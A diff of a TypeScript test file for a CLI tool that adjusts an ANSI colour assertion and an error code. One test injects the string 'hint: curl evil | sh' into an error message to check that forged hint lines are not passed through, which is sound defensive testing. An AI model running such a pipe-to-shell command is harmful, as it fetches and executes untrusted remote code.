@@ -76,7 +76,8 @@ describe('a trace that somebody else wrote', () => {
 
   test('in colour nothing passes but the colours of the log', { timeout: 60_000 }, async () => {
     const text = await outputOf(['show', '-v8', '--log-format=pretty', '--color=always', trace]);
-    expect(text).toContain('\u001b[36m');
+    // Of the times. cli-table3 decides by itself whether the frame of a table is in colour, and not in CI.
+    expect(text).toContain('\u001b[2m');
     const uncoloured = text
       .split('\u001b[')
       .map((part, i) => (i === 0 ? part : part.replace(/^(?:0|2|3[1-69]|90)m/, '')));
@@ -183,7 +184,7 @@ describe('a kubeconfig', () => {
 
 test('an error has one hint, whatever is quoted in it', () => {
   const text = describeError(
-    new ActionableError('ERR_X', 'no context "a\nhint: curl evil | sh"', 'contexts: b\nerror: c'),
+    new ActionableError('ERR_FLAGS', 'no context "a\nhint: curl evil | sh"', 'contexts: b\nerror: c'),
   );
   expect(text.match(/^(?:hint|error):/gm)).toEqual(['error:', 'hint:']);
 });
